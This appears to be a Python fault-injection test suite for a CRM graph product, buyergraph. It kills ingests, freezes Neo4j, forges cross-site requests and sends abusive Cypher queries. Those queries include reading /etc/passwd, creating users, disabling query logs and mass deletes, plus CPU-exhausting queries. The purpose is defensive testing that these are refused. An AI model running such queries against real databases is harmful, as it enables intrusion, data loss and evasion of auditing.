"""The fault suite: run the real product, break something on purpose, and say what was lost.

    .venv/bin/python -m bench.faults                              # every fault, both stores, 40 accounts
    .venv/bin/python -m bench.faults --stores embedded --only kill9-ingest,bad-input
    .venv/bin/python -m bench.faults --accounts 300 --json > faults.json

Each fault drives `buyergraph` as an operator would (`generate`, `ingest`, `serve --workers 2`, `keys`,
`stats`, HTTP requests), injects one fault (kill -9, a stopped or frozen Neo4j, a hostile request or
file), and compares what the store then holds with a clean load of the same world: counts per label
and relationship type from `buyergraph stats --json`, plus every company's and person's values.
One line per fault and store:

    FAULT kill9-ingest [neo4j]: tried ...; lost: nothing
    FAULT neo4j-frozen [neo4j]: tried ...; LOST: GET /health got no answer within 12 s after 12.1 s

The exit code is 1 when anything was lost or a check failed, 2 for bad arguments. Every step has its
own timeout, so the suite never hangs; the servers it starts are stopped and a frozen Neo4j is
thawed whatever happens. Neo4j faults run against a private server in `.neo4j/faults/` (never the
development or test database); worlds are cached in `.neo4j/faults/worlds/`.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import functools
import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

REPO = Path(__file__).resolve().parent.parent
if str(REPO) not in sys.path:  # also runnable as `python bench/faults.py`
    sys.path.insert(0, str(REPO))

from bench._common import free_port, private_neo4j  # noqa: E402
from graph.stores.base import MAX_PAGE_SIZE  # noqa: E402

STORES = ("embedded", "neo4j")
BUYERGRAPH = Path(sys.executable).with_name("buyergraph")
FAULTS_DIR = REPO / ".neo4j" / "faults"
#: A foreign web site, as a browser would name it in the Origin header of a cross-site request.
FOREIGN_ORIGIN_HOST = "127.0.0.1"
#: Leading characters that make a spreadsheet cell a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


# --- outcomes and the registry --------------------------------------------------------------------


@dataclass
class Outcome:
    """What one fault on one store tried and what it lost (an empty `lost` means nothing)."""

    fault: str
    store: str
    tried: str = ""
    lost: list[str] = field(default_factory=list)
    seconds: float = 0.0

    @property
    def ok(self) -> bool:
        return not self.lost

    def line(self) -> str:
        verdict = "lost: nothing" if self.ok else "LOST: " + "; ".join(self.lost)
        tried = self.tried or "(nothing: it stopped early)"
        return f"FAULT {self.fault} [{self.store}]: tried {tried}; {verdict}"


@dataclass(frozen=True)
class Fault:
    name: str
    stores: tuple[str, ...]
    run: Callable[[Suite, Store, Outcome], None]
    summary: str


#: Every fault, in the order they run.
FAULTS: dict[str, Fault] = {}


def fault(
    name: str, *, stores: tuple[str, ...] = STORES
) -> Callable[[Callable[..., None]], Callable[..., None]]:
    """Register a fault for the stores it applies to; its docstring's first line is its summary."""

    def register(function: Callable[..., None]) -> Callable[..., None]:
        summary = (function.__doc__ or name).strip().splitlines()[0]
        FAULTS[name] = Fault(name, stores, function, summary)
        return function

    return register


# --- arguments ----------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Options:
    stores: tuple[str, ...]
    accounts: int
    only: tuple[str, ...]
    as_json: bool
    seed: int
    keep_neo4j: bool


def _names(raw: str, allowed: Sequence[str], what: str, parser: argparse.ArgumentParser) -> tuple[str, ...]:
    names = tuple(dict.fromkeys(n.strip() for n in raw.split(",") if n.strip()))
    unknown = [n for n in names if n not in allowed]
    if unknown or not names:
        parser.error(f"{what}: unknown {', '.join(unknown) or '(empty)'}; choose from {', '.join(allowed)}")
    return names


def parse_args(argv: Sequence[str] | None = None) -> Options:
    parser = argparse.ArgumentParser(
        prog="python -m bench.faults",
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    parser.add_argument("--stores", default=",".join(STORES), help="comma-separated: embedded,neo4j")
    parser.add_argument(
        "--accounts", type=int, default=40, help="accounts in the generated world (default 40)"
    )
    parser.add_argument("--only", default="", help=f"comma-separated faults to run: {', '.join(FAULTS)}")
    parser.add_argument("--json", dest="as_json", action="store_true", help="print the outcomes as JSON")
    parser.add_argument("--seed", type=int, default=0, help="seed of the generated world")
    parser.add_argument("--keep-neo4j", action="store_true", help="leave the private Neo4j running")
    args = parser.parse_args(argv)
    if args.accounts < 1:
        parser.error("--accounts must be at least 1")
    return Options(
        stores=_names(args.stores, STORES, "--stores", parser),
        accounts=args.accounts,
        only=_names(args.only, list(FAULTS), "--only", parser) if args.only else tuple(FAULTS),
        as_json=args.as_json,
        seed=args.seed,
        keep_neo4j=args.keep_neo4j,
    )


def plan(options: Options) -> list[tuple[Fault, str]]:
    """(fault, store) pairs to run: registry order, each fault on the chosen stores it applies to."""
    return [
        (FAULTS[name], store)
        for name in FAULTS
        if name in options.only
        for store in options.stores
        if store in FAULTS[name].stores
    ]


# --- fingerprints --------------------------------------------------------------------------------------


@dataclass
class Fingerprint:
    """What a store holds: counts per label / type, and a digest of every company's and person's values."""

    nodes: dict[str, int]
    relationships: dict[str, int]
    companies: dict[str, str]
    people: dict[str, str]


def _digest(values: dict[str, Any]) -> str:
    return hashlib.sha256(json.dumps(values, sort_keys=True, default=str).encode()).hexdigest()[:16]


def _id_losses(what: str, reference: dict[str, str], actual: dict[str, str]) -> list[str]:
    """Ids only, never names or e-mails: the report may be pasted into an issue."""
    lost = []
    missing = sorted(reference.keys() - actual.keys())
    extra = sorted(actual.keys() - reference.keys())
    changed = sorted(k for k in reference.keys() & actual.keys() if reference[k] != actual[k])
    if missing:
        lost.append(f"{len(missing)} {what} missing (e.g. {missing[0]})")
    if extra:
        lost.append(f"{len(extra)} {what} a clean load does not have (e.g. {extra[0]})")
    if changed:
        lost.append(f"{len(changed)} {what} with other values than a clean load (e.g. {changed[0]})")
    return lost


def compare(reference: Fingerprint, actual: Fingerprint) -> list[str]:
    """How `actual` differs from the clean `reference`, one short phrase per difference (empty: equal)."""
    lost = []
    for kind, ref_counts, counts in (
        ("nodes", reference.nodes, actual.nodes),
        ("relationships", reference.relationships, actual.relationships),
    ):
        for name in sorted(ref_counts.keys() | counts.keys()):
            want, have = ref_counts.get(name, 0), counts.get(name, 0)
            if want != have:
                lost.append(f"{name} {kind}: {have:,} instead of {want:,}")
    lost += _id_losses("companies", reference.companies, actual.companies)
    lost += _id_losses("people", reference.people, actual.people)
    return lost


# --- processes -----------------------------------------------------------------------------------------


class Processes:
    """Every process the suite starts, so that all of them are stopped whatever happens."""

    def __init__(self) -> None:
        self.running: list[subprocess.Popen[bytes]] = []

    def spawn(
        self, command: list[str], *, env: dict[str, str], cwd: Path, log: Path
    ) -> subprocess.Popen[bytes]:
        with log.open("ab") as out:
            process = subprocess.Popen(
                command, env=env, cwd=cwd, stdout=out, stderr=subprocess.STDOUT, start_new_session=True
            )
        self.running.append(process)
        return process

    @staticmethod
    def kill(process: subprocess.Popen[bytes], sig: int = signal.SIGKILL) -> None:
        """Signal the process's whole group (a server with workers forks children)."""
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.killpg(process.pid, sig)

    def stop(self, process: subprocess.Popen[bytes], timeout: float = 15.0) -> None:
        if process.poll() is None:
            self.kill(process, signal.SIGTERM)
            try:
                process.wait(timeout)
            except subprocess.TimeoutExpired:
                self.kill(process)
                process.wait(10)
        self.kill(process)  # workers left behind by a parent that exited
        if process in self.running:
            self.running.remove(process)

    def stop_all(self) -> None:
        for process in list(self.running):
            self.stop(process, timeout=5.0)


@dataclass
class Done:
    code: int
    output: str
    seconds: float

    def last_line(self) -> str:
        lines = [line for line in self.output.strip().splitlines() if line.strip()]
        return lines[-1][:200] if lines else "(no output)"


# --- stores ----------------------------------------------------------------------------------------------


class Store:
    """One store under test: a fresh state on demand, the environment that points buyergraph at it,
    and its fingerprint."""

    def __init__(self, kind: str, work: Path, neo4j: Any = None) -> None:
        self.kind = kind
        self.work = work
        self.neo4j = neo4j
        self.home = work / f"{kind}-0"
        self._homes = 0
        #: What the store holds when that is a known clean state ("native"), else None.
        self.state: str | None = None

    def env(self, **extra: str) -> dict[str, str]:
        """The user's environment without buyergraph or Neo4j settings, plus this store's."""
        env = {k: v for k, v in os.environ.items() if not k.startswith(("BUYERGRAPH_", "NEO4J_"))}
        env["BUYERGRAPH_HOME"] = str(self.home)
        env["NEO4J_URI"] = ""
        if self.kind == "neo4j":
            env |= {
                "NEO4J_URI": self.neo4j.uri,
                "NEO4J_USERNAME": "neo4j",
                "NEO4J_PASSWORD": self.neo4j.password(),
            }
        return env | extra

    def fresh(self) -> None:
        """An empty store and a new home (keys, embedded data)."""
        self._homes += 1
        self.home = self.work / f"{self.kind}-{self._homes}"
        self.home.mkdir(parents=True)
        self.state = None
        if self.kind == "neo4j":
            with contextlib.closing(self.open()) as store:
                store.clear()

    def open(self) -> Any:
        if self.kind == "neo4j":
            from graph.stores.neo4j import Neo4jStore

            return Neo4jStore.connect(self.neo4j.uri, "neo4j", self.neo4j.password())
        from graph.stores.embedded import EmbeddedStore

        return EmbeddedStore(self.home)


# --- the suite ---------------------------------------------------------------------------------------


@dataclass
class Reference:
    fingerprint: Fingerprint
    ingest_s: float


class Suite:
    """The shared pieces of all faults: worlds, processes, clean references, servers, keys."""

    def __init__(self, options: Options, work: Path) -> None:
        self.options = options
        self.work = work
        self.processes = Processes()
        self.references: dict[tuple[str, str], Reference] = {}

    def log(self, message: str) -> None:
        print(message, file=sys.stderr if self.options.as_json else sys.stdout, flush=True)

    # worlds

    def world(self, fmt: str) -> Path:
        folder = FAULTS_DIR / "worlds" / f"{fmt}-{self.options.accounts}-seed{self.options.seed}"
        if not (folder / "truth.json").exists():
            shutil.rmtree(folder, ignore_errors=True)
            self.log(f"  generating a {self.options.accounts}-account {fmt} world ...")
            command = ["generate", str(folder), "--accounts", str(self.options.accounts)]
            done = self.cli([*command, "--seed", str(self.options.seed), "--format", fmt], {}, timeout=900)
            if done.code != 0:
                raise RuntimeError(f"buyergraph generate failed: {done.last_line()}")
        return folder

    @staticmethod
    def data_files(world: Path) -> list[Path]:
        """The world's CRM files, without its truth (which is not CRM data)."""
        return sorted(p for p in world.iterdir() if p.is_file() and p.suffix in (".csv", ".jsonl"))

    # the command line

    def cli(self, args: list[str], env: dict[str, str], *, timeout: float, cwd: Path | None = None) -> Done:
        """Run `buyergraph ARGS` to the end (killed after `timeout` seconds)."""
        process = self.spawn(args, env, cwd=cwd)
        return self.finish(process, timeout)

    def spawn(
        self, args: list[str], env: dict[str, str], *, cwd: Path | None = None
    ) -> subprocess.Popen[bytes]:
        log = self.work / f"cli-{uuid.uuid4().hex[:8]}.log"
        process = self.processes.spawn(
            [str(BUYERGRAPH), *args], env=env or os.environ.copy(), cwd=cwd or self.work, log=log
        )
        process.log = log  # type: ignore[attr-defined]
        return process

    def finish(self, process: subprocess.Popen[bytes], timeout: float) -> Done:
        started = time.monotonic()
        try:
            code = process.wait(timeout)
        except subprocess.TimeoutExpired:
            self.processes.stop(process)
            code = -1
        self.processes.stop(process)
        output = process.log.read_text(errors="replace")  # type: ignore[attr-defined]
        if code == -1:
            output += f"\n(killed after {timeout:.0f} s)"
        return Done(code, output, time.monotonic() - started)

    def ingest(self, store: Store, paths: Sequence[Path], *args: str, timeout: float = 900) -> Done:
        return self.cli(["ingest", *map(str, paths), *args], store.env(), timeout=timeout)

    def create_key(self, store: Store, scope: str) -> str:
        name = f"faults-{scope}-{uuid.uuid4().hex[:6]}"
        done = self.cli(["keys", "create", name, "--scope", scope], store.env(), timeout=120)
        key = next(
            (line.strip() for line in done.output.splitlines() if line.strip().startswith("bg_")), None
        )
        if done.code != 0 or key is None:
            raise RuntimeError(f"buyergraph keys create failed: {done.last_line()}")
        return key

    # fingerprints and references

    def fingerprint(self, store: Store) -> Fingerprint:
        done = self.cli(["stats", "--json"], store.env(), timeout=300)
        if done.code != 0:
            raise RuntimeError(f"buyergraph stats failed: {done.last_line()}")
        counts = json.loads(done.output[done.output.index("{") :])
        with contextlib.closing(store.open()) as opened:
            companies = {c.id: _digest(c.model_dump(mode="json")) for c in every(opened.list_accounts)}
            people = {p.id: _digest(p.model_dump(mode="json")) for p in every(opened.list_people)}
        return Fingerprint(counts["nodes"], counts["relationships"], companies, people)

    def load(self, store: Store, worlds: Sequence[Path]) -> float:
        """A fresh store with `worlds` ingested one after the other; the seconds the ingests took."""
        store.fresh()
        seconds = 0.0
        for world in worlds:
            done = self.ingest(store, self.data_files(world))
            if done.code != 0:
                raise RuntimeError(f"the clean ingest of {world.name} failed: {done.last_line()}")
            seconds += done.seconds
        return seconds

    def reference(self, store: Store, formats: Sequence[str] = ("native",)) -> Reference:
        """The fingerprint of a clean, uninterrupted load of these worlds in this order (cached)."""
        key = (store.kind, "+".join(formats))
        if key not in self.references:
            seconds = self.load(store, [self.world(fmt) for fmt in formats])
            self.references[key] = Reference(self.fingerprint(store), seconds)
            store.state = key[1]
        return self.references[key]

    def ensure_loaded(self, store: Store) -> Reference:
        """The store holding exactly the clean native world."""
        reference = self.reference(store)
        if store.state != "native":
            self.load(store, [self.world("native")])
            store.state = "native"
        return reference

    # servers

    @contextlib.contextmanager
    def server(self, store: Store, *, workers: int = 2, cwd: Path | None = None, **env: str) -> Iterator[str]:
        """`buyergraph serve --workers N` on a free port; yields its base URL once /health answers."""
        port = free_port()
        args = ["serve", "--port", str(port), "--workers", str(workers), "--log-level", "warning"]
        process = self.spawn(args, store.env(**env), cwd=cwd)
        base = f"http://127.0.0.1:{port}"
        try:
            deadline = time.monotonic() + 120
            while True:
                with contextlib.suppress(httpx.TransportError):
                    if httpx.get(f"{base}/health", timeout=5).status_code in (200, 503):
                        break
                if process.poll() is not None or time.monotonic() > deadline:
                    raise RuntimeError("buyergraph serve did not start: " + process.log.read_text()[-300:])  # type: ignore[attr-defined]
                time.sleep(0.3)
            yield base
        finally:
            self.processes.stop(process)


def every(lister: Callable[..., Any]) -> Iterator[Any]:
    """Every item of a store listing (list_accounts, list_people), page by page."""
    offset = 0
    while True:
        page = lister(offset=offset, limit=MAX_PAGE_SIZE)
        yield from page.data
        offset += len(page.data)
        if not page.data or offset >= page.count:
            return


def fresh_get(url: str, *, timeout: float = 30, **kwargs: Any) -> httpx.Response:
    """One request on a new connection, so that successive requests reach either server process."""
    with httpx.Client(timeout=timeout) as client:
        return client.get(url, **kwargs)


def answers_ok(url: str, headers: dict[str, str]) -> bool:
    return fresh_get(url, headers=headers, timeout=15).status_code == 200


def poll(check: Callable[[], bool], timeout: float, every: float = 0.5) -> bool:
    """True as soon as `check()` is true, False after `timeout` seconds."""
    deadline = time.monotonic() + timeout
    while True:
        with contextlib.suppress(httpx.TransportError):
            if check():
                return True
        if time.monotonic() > deadline:
            return False
        time.sleep(every)


def native_files(folder: Path, companies: list[dict[str, str]], people: list[dict[str, str]]) -> Path:
    """A tiny native bundle: companies.csv and people.csv."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, rows, columns in (
        ("companies.csv", companies, ["id", "name", "domain", "industry", "region", "status"]),
        ("people.csv", people, ["id", "name", "email", "company_id", "title"]),
    ):
        with (folder / name).open("w", newline="", encoding="utf-8") as out:
            writer = csv.DictWriter(out, columns)
            writer.writeheader()
            writer.writerows(rows)
    return folder


def _company(cid: str, name: str) -> dict[str, str]:
    return {
        "id": cid,
        "name": name,
        "domain": f"{cid}.example",
        "industry": "Software",
        "region": "US",
        "status": "prospect",
    }


def _person(pid: str, name: str, cid: str, title: str = "Engineer") -> dict[str, str]:
    return {"id": pid, "name": name, "email": f"{pid}@{cid}.example", "company_id": cid, "title": title}


# --- the faults --------------------------------------------------------------------------------------


#: Records per write transaction of the ingest that is killed: many small batches, so that on Neo4j
#: the kill lands between committed batches.
KILLED_BATCH = 200


def _wait_until_writing(store: Store, process: subprocess.Popen[bytes], timeout: float) -> str:
    """Wait until the ingest has committed its first batch to Neo4j; say how far it got."""
    deadline = time.monotonic() + timeout
    with contextlib.closing(store.open()) as probe:
        while process.poll() is None and time.monotonic() < deadline:
            written = sum(probe.counts().nodes.values())
            if written:
                return f"once {written:,} nodes were written"
            time.sleep(0.05)
    return "when the wait for its first batch ran out"


@fault("kill9-ingest")
def kill9_ingest(suite: Suite, store: Store, outcome: Outcome) -> None:
    """kill -9 in the middle of an ingest, then the same ingest again: equal to one clean run."""
    reference = suite.reference(store)
    files = suite.data_files(suite.world("native"))
    killed = False
    for fraction in (0.6, 0.3, 0.1):  # embedded: a point in time; shorter when the ingest beat it
        store.fresh()
        process = suite.spawn(["ingest", *map(str, files), "--batch-size", str(KILLED_BATCH)], store.env())
        started = time.monotonic()
        if store.kind == "neo4j":
            when = _wait_until_writing(store, process, 60 + 10 * reference.ingest_s)
        else:
            delay = max(0.3, reference.ingest_s * fraction)
            while process.poll() is None and time.monotonic() - started < delay:
                time.sleep(0.05)
            when = f"{time.monotonic() - started:.1f} s into a {reference.ingest_s:.1f} s load"
        killed = process.poll() is None
        suite.processes.kill(process)
        suite.finish(process, 30)
        if killed:
            break
    outcome.tried = f"kill -9 of `buyergraph ingest` {when}, then the same ingest again"
    if not killed:
        outcome.lost.append("check failed: the ingest always finished before the kill")
        return
    again = suite.ingest(store, files)
    if again.code != 0:
        outcome.lost.append(f"the second ingest exited {again.code}: {again.last_line()}")
    outcome.lost += compare(reference.fingerprint, suite.fingerprint(store))
    store.state = "native" if outcome.ok else None


@fault("concurrent-ingest")
def concurrent_ingest(suite: Suite, store: Store, outcome: Outcome) -> None:
    """Two ingests of one world at once (native bundle + Salesforce export): equal to one after the other."""
    native, salesforce = suite.world("native"), suite.world("salesforce")
    reference = suite.reference(store, ("native", "salesforce"))
    store.fresh()
    outcome.tried = (
        "`buyergraph ingest` of the native bundle and of the Salesforce export of one world at once"
    )
    running = [
        suite.spawn(["ingest", *map(str, suite.data_files(w))], store.env()) for w in (native, salesforce)
    ]
    limit = 120 + 10 * reference.ingest_s
    for name, process in zip(("native", "salesforce"), running, strict=True):
        done = suite.finish(process, limit)
        if done.code != 0:
            outcome.lost.append(f"the {name} ingest exited {done.code}: {done.last_line()}")
    actual = suite.fingerprint(store)
    lost = compare(reference.fingerprint, actual)
    if lost:  # the other sequential order is as good an answer
        other = suite.reference(store, ("salesforce", "native"))
        if not compare(other.fingerprint, actual):
            lost = []
    outcome.lost += lost
    store.state = None


def _retry_after_503(response: httpx.Response) -> bool:
    return response.status_code == 503 and response.headers.get("Retry-After", "").isdigit()


def _answer(url: str, headers: dict[str, str], timeout: float) -> tuple[str, float, httpx.Response | None]:
    """(what happened, seconds, response) for one request that may hang."""
    started = time.monotonic()
    try:
        response = fresh_get(url, headers=headers, timeout=timeout)
    except httpx.TimeoutException:
        return f"got no answer within {timeout:.0f} s", time.monotonic() - started, None
    except httpx.TransportError as exc:
        return f"could not connect ({type(exc).__name__})", time.monotonic() - started, None
    retry = response.headers.get("Retry-After")
    what = f"answered {response.status_code}" + (f" Retry-After {retry}" if retry else " without Retry-After")
    return what, time.monotonic() - started, response


@fault("neo4j-stopped", stores=("neo4j",))
def neo4j_stopped(suite: Suite, store: Store, outcome: Outcome) -> None:
    """Neo4j stopped (SIGTERM) under a running server: 503 with Retry-After, then recovery by itself."""
    reference = suite.ensure_loaded(store)
    key = suite.create_key(store, "read")
    headers = {"X-API-Key": key}
    with suite.server(store) as base:
        urls = [f"{base}/health", f"{base}/api/v1/accounts?limit=5"]
        outcome.tried = (
            "SIGTERM of Neo4j under `serve --workers 2`, GET /health and /api/v1/accounts, restart"
        )
        store.neo4j.stop()
        answers: dict[str, str] = {}

        def unavailable(url: str) -> bool:
            what, _, response = _answer(url, headers, 15)
            answers[url] = what
            return response is not None and _retry_after_503(response)

        for url in urls:
            if not poll(functools.partial(unavailable, url), 20):
                outcome.lost.append(
                    f"GET {url.removeprefix(base)} {answers.get(url)}, not 503 with Retry-After"
                )
        start_modest(store.neo4j)
        for url in urls:
            if not poll(functools.partial(answers_ok, url, headers), 60):
                outcome.lost.append(
                    f"GET {url.removeprefix(base)} did not recover within 60 s of the restart"
                )
    outcome.lost += compare(reference.fingerprint, suite.fingerprint(store))


@fault("neo4j-frozen", stores=("neo4j",))
def neo4j_frozen(suite: Suite, store: Store, outcome: Outcome) -> None:
    """Neo4j frozen (SIGSTOP): /health and data answer 503 + Retry-After within 10 s; SIGCONT: 200."""
    reference = suite.ensure_loaded(store)
    key = suite.create_key(store, "read")
    headers = {"X-API-Key": key}
    pid = store.neo4j.status().pid
    with suite.server(store) as base:
        outcome.tried = (
            "SIGSTOP of Neo4j under `serve --workers 2`, GET /health and /api/v1/people?search=..., SIGCONT"
        )
        os.kill(pid, signal.SIGSTOP)
        try:
            time.sleep(1.5)  # /health may reuse its answer for 1 s
            for path in ("/health", f"/api/v1/people?search=frozen-{uuid.uuid4().hex[:6]}"):
                what, seconds, response = _answer(base + path, headers, 12)
                if response is None or not _retry_after_503(response) or seconds > 10:
                    outcome.lost.append(f"GET {path.split('?')[0]} {what} after {seconds:.1f} s")
        finally:
            os.kill(pid, signal.SIGCONT)
        for path in ("/health", "/api/v1/accounts?limit=5"):
            if not poll(functools.partial(answers_ok, base + path, headers), 60):
                outcome.lost.append(f"GET {path.split('?')[0]} did not recover within 60 s of SIGCONT")
    outcome.lost += compare(reference.fingerprint, suite.fingerprint(store))


#: Uploads sent back to back: jobs run one at a time, so the later ones wait in the queue.
UPLOADS = 3


@fault("upload-over-inline-limit")
def upload_over_inline_limit(suite: Suite, store: Store, outcome: Outcome) -> None:
    """Uploads above the inline limit (background jobs), to a server whose folder holds decoy CSVs."""
    decoys = native_files(
        suite.work / f"decoys-{store.kind}",
        [_company("decoy-co", "Decoy Folder Company")],
        [_person("decoy-person", "Decoy Person", "decoy-co")],
    )
    uploads = [
        native_files(
            suite.work / f"upload-{store.kind}-{i}",
            [_company(f"upload-co-{i}", f"Uploaded Company {i}")],
            [_person(f"upload-person-{i}", f"Uploaded Person {i}", f"upload-co-{i}")],
        )
        for i in range(UPLOADS)
    ]
    key = suite.create_key(store, "write")
    outcome.tried = (
        f"{UPLOADS} POST /api/v1/ingest above BUYERGRAPH_INGEST_JOB_THRESHOLD_BYTES, back to back, to a "
        "server started in a folder of decoy CSVs"
    )
    with (
        suite.server(store, cwd=decoys, BUYERGRAPH_INGEST_JOB_THRESHOLD_BYTES="16") as base,
        httpx.Client(base_url=base, headers={"X-API-Key": key}, timeout=60) as client,
    ):
        jobs = []
        for i, upload in enumerate(uploads):
            files = [("files", (p.name, p.read_bytes(), "text/csv")) for p in sorted(upload.iterdir())]
            response = client.post("/api/v1/ingest", files=files)
            if response.status_code == 202:
                jobs.append(response.headers["Location"])
            elif response.status_code != 200:
                outcome.lost.append(f"upload {i + 1} was answered {response.status_code}")
        states: dict[str, str] = {}

        def finished() -> bool:
            for location in jobs:
                # A new connection per poll, as a client behind a load balancer would make: it may
                # reach either worker, and each must know the job.
                with httpx.Client(base_url=base, headers={"X-API-Key": key}, timeout=60) as fresh:
                    response = fresh.get(location)
                if response.status_code != 200:
                    outcome.lost.append(f"a poll of an ingest job was answered {response.status_code}")
                    states[location] = "failed"
                    continue
                states[location] = response.json().get("state", "?")
            return all(state in ("succeeded", "failed") for state in states.values())

        if not poll(finished, 180):
            outcome.lost.append(f"ingest jobs not finished within 180 s: {sorted(states.values())}")
        failed = sum(state == "failed" for state in states.values())
        if failed:
            outcome.lost.append(f"{failed} of {len(jobs)} ingest jobs failed")
        checks = [(f"/api/v1/people/upload-person-{i}", 200) for i in range(UPLOADS)]
        checks += [("/api/v1/people/decoy-person", 404), ("/api/v1/accounts/decoy-co", 404)]
        for path, wanted in checks:
            status = client.get(path).status_code
            if status != wanted:
                what = "an uploaded person is not in the store" if wanted == 200 else "a decoy was loaded"
                outcome.lost.append(f"{what} (GET {path}: {status})")
    store.state = None


@fault("cross-site-request")
def cross_site_request(suite: Suite, store: Store, outcome: Outcome) -> None:
    """A browser signed in to the pages, made to send DELETE / POST from a foreign Origin: refused as
    cross-site, nothing changed; the same requests from the server's own page (same origin, the page's
    CSRF token) go through, so the refusal is the CSRF defence and not something else."""
    suite.ensure_loaded(store)
    with contextlib.closing(store.open()) as opened:
        person = opened.list_people(limit=1).data[0].id
    key = suite.create_key(store, "write")
    admin = suite.create_key(store, "admin")
    outcome.tried = (
        "a foreign-origin login, an admin-key login, then a write-key page session sending DELETE "
        "/api/v1/people/{id} and POST /api/v1/ingest from a foreign Origin (and from its own page)"
    )
    with suite.server(store) as base, httpx.Client(base_url=base, timeout=30) as browser:
        own = {"Origin": base}
        foreign = {"Origin": f"http://{FOREIGN_ORIGIN_HOST}:{free_port()}"}

        def login(api_key: str, origin: dict[str, str]) -> httpx.Response:
            form = browser.get("/login").text
            token = form.split('name="login_token" value="', 1)[-1].split('"', 1)[0]
            data = {"api_key": api_key, "next": "/", "login_token": token}
            return browser.post("/login", data=data, headers=origin, follow_redirects=False)

        if (answer := login(key, foreign)).status_code != 403:
            outcome.lost.append(f"a login from a foreign Origin was answered {answer.status_code}")
        if (answer := login(admin, own)).status_code != 403:
            outcome.lost.append(f"a page login with an admin key was answered {answer.status_code}")
        signed_in = login(key, own)
        session = browser.cookies.get("buyergraph_session")
        if signed_in.status_code != 303 or not session:
            outcome.lost.append(f"check failed: the login form answered {signed_in.status_code}, no session")
            return
        if key in session:
            outcome.lost.append("the session cookie holds the API key")
        page = browser.get("/", follow_redirects=False)
        if page.status_code != 200 or 'name="csrf-token"' not in page.text:
            outcome.lost.append("check failed: the signed-in session cannot open the pages")
            return
        csrf = page.text.split('name="csrf-token" content="', 1)[-1].split('"', 1)[0]
        forged = browser.delete(f"/api/v1/people/{person}", headers={**foreign, "X-CSRF-Token": csrf})
        if forged.status_code != 403:
            outcome.lost.append(f"the cross-site DELETE was answered {forged.status_code}")
        files = [("files", ("companies.csv", b"id,name\ncsrf-co,Cross Site Company\n", "text/csv"))]
        posted = browser.post("/api/v1/ingest", files=files, headers=foreign)
        if posted.status_code != 403 or not posted.json().get("type", "").endswith("csrf-refused"):
            outcome.lost.append(f"the cross-site POST /api/v1/ingest was answered {posted.status_code}")
        tokenless = browser.post("/api/v1/ingest", files=files, headers=own)
        if tokenless.status_code != 403:
            outcome.lost.append(f"a same-origin POST without the token was answered {tokenless.status_code}")
        check = {"X-API-Key": key}
        if fresh_get(f"{base}/api/v1/people/{person}", headers=check).status_code != 200:
            outcome.lost.append(f"person {person} was erased by the cross-site request")
        if fresh_get(f"{base}/api/v1/accounts/csrf-co", headers=check).status_code != 404:
            outcome.lost.append("company csrf-co was created by the cross-site request")
        genuine = [("files", ("companies.csv", b"id,name\ncsrf-own,Own Page Company\n", "text/csv"))]
        allowed = browser.post("/api/v1/ingest", files=genuine, headers={**own, "X-CSRF-Token": csrf})
        if allowed.status_code != 200:
            outcome.lost.append(f"check failed: the page's own POST was answered {allowed.status_code}")
    store.state = None  # the page's own upload changed the store


#: Cypher console queries that would change the database, its settings or its users, or read files.
CYPHER_WRITES = (
    "CREATE (n:Company {id: 'fault-intruder', name: 'x'}) RETURN n",
    "MERGE (n:Company {id: 'fault-intruder'}) RETURN n",
    "MATCH (n:Company) SET n.name = 'owned'",
    "match (n:Company) /* a comment */ remove n.name",
    "MATCH (n:Touch) DETACH DELETE n",
    "MATCH (n:Person) WITH n LIMIT 1 FOREACH (x IN [1] | SET n.name = 'owned')",
    "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row",
    "CALL db.stats.clear()",
    "CALL db.stats.collect('QUERIES')",
    "CALL db.clearQueryCaches()",
    "CALL db.createLabel('Intruder')",
    "CALL db.createProperty('intruder')",
    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})",
    "CALL { MATCH (n:Touch) DETACH DELETE n } IN TRANSACTIONS OF 10 ROWS",
    "CALL dbms.setConfigValue('db.logs.query.enabled', 'OFF')",
    "CALL dbms.security.createUser('intruder', 'intruder-password', false)",
    "CREATE USER intruder SET PASSWORD 'intruder-password'",
    "DROP CONSTRAINT company_id IF EXISTS",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
)
#: Queries that keep the CPU busy: both must be stopped at the timeout.
CYPHER_CPU = (
    "UNWIND range(1, 1000000000) AS x WITH x WHERE x % 1000000007 = -1 RETURN count(x)",
    "RETURN reduce(s = 0, x IN range(1, 400000000) | s + x % 7) AS total",
)
#: One row of about 34 MB: must be refused, not sent.
CYPHER_HUGE = "RETURN [i IN range(1, 1000000) | 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'] AS big"


@fault("cypher-console", stores=("neo4j",))
def cypher_console(suite: Suite, store: Store, outcome: Outcome) -> None:
    """Writes and abuse through the Cypher console: all refused (4xx), the store unchanged."""
    reference = suite.ensure_loaded(store)
    key = suite.create_key(store, "admin")
    timeout_s = 2.0
    outcome.tried = (
        f"{len(CYPHER_WRITES)} write / admin queries, {len(CYPHER_CPU)} CPU-bound queries "
        f"(timeout_s {timeout_s:g}) and a 34 MB row through POST /api/v1/cypher"
    )
    with (
        suite.server(store) as base,
        httpx.Client(base_url=base, headers={"X-API-Key": key}, timeout=60) as client,
    ):
        answered = []
        for query in CYPHER_WRITES:
            status = client.post("/api/v1/cypher", json={"query": query}).status_code
            if not 400 <= status < 500:
                answered.append(f"`{query[:40]}` {status}")
        if answered:
            outcome.lost.append(
                f"{len(answered)} of {len(CYPHER_WRITES)} not refused: " + ", ".join(answered)
            )
        for query in CYPHER_CPU:
            started = time.monotonic()
            try:
                status = client.post(
                    "/api/v1/cypher", json={"query": query, "timeout_s": timeout_s}, timeout=timeout_s + 30
                ).status_code
            except httpx.TimeoutException:
                status = 0
            seconds = time.monotonic() - started
            if not 400 <= status < 500 or seconds > timeout_s + 5:
                what = f"answered {status}" if status else "got no answer"
                outcome.lost.append(f"CPU-bound `{query[:30]}...` {what} after {seconds:.1f} s")
